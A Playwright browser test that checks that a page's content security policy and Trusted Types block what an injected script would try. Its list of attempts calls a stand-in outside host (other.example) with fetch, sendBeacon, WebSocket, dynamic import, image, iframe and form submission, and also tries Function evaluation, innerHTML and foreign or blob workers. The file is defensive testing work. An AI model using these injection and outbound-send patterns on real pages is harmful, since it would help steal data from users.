/** What a script that got into the page would try: the content security policy and Trusted Types stop it. */

import { expect, test, type Request } from "@playwright/test";
import { Light } from "./light.js";
import { Site } from "./site.js";

// Not the harness's page, which takes each of these for a fault.
test("a script that got into the page could bring in no other, and send nothing", async ({ page }) => {
  const light = new Light();
  light.build("A");
  const site = await Site.start({ "/": light.folder });
  const asked: Request[] = [];
  page.on("request", (request) => asked.push(request));
  try {
    await page.goto(site.origin);
    await expect(page.locator("#failure")).toBeVisible();
    const { violated, slipped } = await page.evaluate(async () => {
      const other = "https://other.example/";
      const append = (name: string, properties: object) => document.body.append(Object.assign(document.createElement(name), properties));
      const violated = new Set<string>();
      addEventListener("securitypolicyviolation", ({ effectiveDirective }) => violated.add(effectiveDirective));
      // What the page's own Trusted Types policy refuses.
      const scripts: Record<string, () => unknown> = {
        "a script's address": () => (document.createElement("script").src = "./code/index.js"),
        "another worker": () => new Worker("./elsewhere.js"),
        "a worker of another origin": () => new Worker(`${other}code/worker-x.js`),
        "a worker from a blob": () => new Worker(URL.createObjectURL(new Blob(["1"]))),
        "another service worker": () => navigator.serviceWorker.register("./elsewhere.js"),
      };
      // What a directive of the content security policy stops: some throw, all are reported.
      const rest: (() => unknown)[] = [
        () => new Function("return 1")(),
        () => (document.createElement("div").innerHTML = "<b>x</b>"),
        () => (globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }).trustedTypes.createPolicy("more", {}),
        () => import(`${other}x.js`),
        () => fetch(other),
        () => navigator.sendBeacon(other, "x"),
        () => new WebSocket("wss://other.example/"),
        () => append("img", { src: `${other}x.png` }),
        () => append("iframe", { src: other }),
        () => append("style", { textContent: "body { color: red }" }),
        () => {
          append("form", { action: other, id: "sent" });
          document.querySelector<HTMLFormElement>("form#sent")?.submit();
        },
      ];
      // What the test's own connection runs at once is exempt from the policy.
      await new Promise((done) => setTimeout(done));
      const slipped: string[] = [];
      for (const [name, attempt] of Object.entries(scripts)) {
        try {
          await attempt();
          slipped.push(name);
        } catch (error) {
          if (!(error instanceof TypeError) || error.message !== "not a script of this page") slipped.push(name);
        }
      }
      for (const attempt of rest) {
        try {
          await attempt();
        } catch {
          // Its report counts.
        }
      }
      while (!violated.has("form-action")) await new Promise((done) => addEventListener("securitypolicyviolation", done, { once: true }));
      return { violated: [...violated].sort(), slipped };
    });
    expect(slipped).toEqual([]);
    expect(violated).toEqual([
      "connect-src",
      "form-action",
      "frame-src",
      "img-src",
      "require-trusted-types-for",
      "script-src-elem",
      "style-src-elem",
      "trusted-types",
    ]);
    // The browser's log has some of them, each stopped before it left.
    const abroad = asked.filter((request) => new URL(request.url()).hostname === "other.example");
    for (const request of abroad) expect(request.failure()?.errorText, request.url()).toBe("csp");
  } finally {
    await site.stop();
    light.remove();
  }
});
